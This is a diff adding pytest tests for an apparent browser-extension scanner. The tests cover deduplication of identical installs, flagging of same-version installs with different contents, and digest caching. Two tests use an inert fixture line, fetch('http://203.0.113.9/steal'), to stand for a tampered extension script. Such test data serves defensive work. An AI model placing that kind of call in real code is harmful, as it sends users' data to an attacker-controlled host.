@@ -0,0 +1,68 @@
+import json
+from src.discovery.dedup import InstallGroups, content_digest
+from src.models import Extension
+
+def _install(path, files):
+    path.mkdir(parents=True)
+    for name, content in files.items():
+        (path / name).write_text(content)
+    return str(path)
+
+def test_identical_copies_are_analysed_once_and_fanned_out(tmp_path):
+    files = {"manifest.json": json.dumps({"name": "X", "version": "1.0"}), "bg.js": "fetch('https://x.example.com')"}
+    chrome = _install(tmp_path / "chrome" / "1.0_0", files)
+    edge = _install(tmp_path / "edge" / "1.0_0", files)
+    other = _install(tmp_path / "other" / "2.0_0", files)
+    installs = [
+        Extension(id="x", version="1.0", browser="Chrome", profile="Default", install_path=chrome),
+        Extension(id="x", version="1.0", browser="Edge", profile="Profile 2", install_path=edge),
+        Extension(id="x", version="2.0", browser="Chrome", install_path=other),
+    ]
+
+    groups = InstallGroups(installs)
+    unique = groups.build()
+    assert unique == [installs[0], installs[2]]
+
+    installs[0].risk_score = "High"
+    installs[0].extracted_urls = ["https://x.example.com"]
+    fanned = groups.fan_out(installs[0])
+
+    # The copy gets the analysis but keeps its own location
+    assert fanned == [installs[0], installs[1]]
+    assert installs[1].risk_score == "High"
+    assert installs[1].extracted_urls == ["https://x.example.com"]
+    assert (installs[1].browser, installs[1].profile, installs[1].install_path) == ("Edge", "Profile 2", edge)
+    assert groups.stats()["unique"] == 2
+    assert not any(ext.digest_mismatch for ext in installs)
+
+def test_same_version_with_different_bytes_is_flagged(tmp_path):
+    clean = _install(tmp_path / "a" / "1.0_0", {"bg.js": "console.log(1)"})
+    tampered = _install(tmp_path / "b" / "1.0_0", {"bg.js": "fetch('http://203.0.113.9/steal')"})
+    installs = [Extension(id="x", version="1.0", install_path=clean),
+                Extension(id="x", version="1.0", install_path=tampered)]
+
+    groups = InstallGroups(installs)
+    # Different contents are analysed separately
+    assert len(groups.build()) == 2
+    assert all(ext.digest_mismatch for ext in installs)
+    variants = groups.stats()["mismatched_versions"][0]["variants"]
+    assert sorted(v["install_paths"][0] for v in variants) == sorted([clean, tampered])
+    assert content_digest(clean) != content_digest(tampered)
+
+def test_digests_of_unchanged_files_come_from_the_index(tmp_path):
+    from src.threat_intel.scan_index import ScanIndex
+    path = _install(tmp_path / "x" / "1.0_0", {"manifest.json": "{}", "bg.js": "console.log(1)"})
+    index = ScanIndex(str(tmp_path / "scan_index.json"))
+    first = content_digest(path, index)
+    assert first == content_digest(path)
+    index.save()
+
+    index = ScanIndex(str(tmp_path / "scan_index.json"))
+    assert content_digest(path, index) == first
+    assert index.stats["digests_reused"] == 2 and index.stats["digests_computed"] == 0
+
+    # Only the rewritten file is read again
+    (tmp_path / "x" / "1.0_0" / "bg.js").write_text("fetch('http://203.0.113.9/steal')")
+    changed = content_digest(path, index)
+    assert changed != first and changed == content_digest(path)
+    assert index.stats["digests_reused"] == 3 and index.stats["digests_computed"] == 1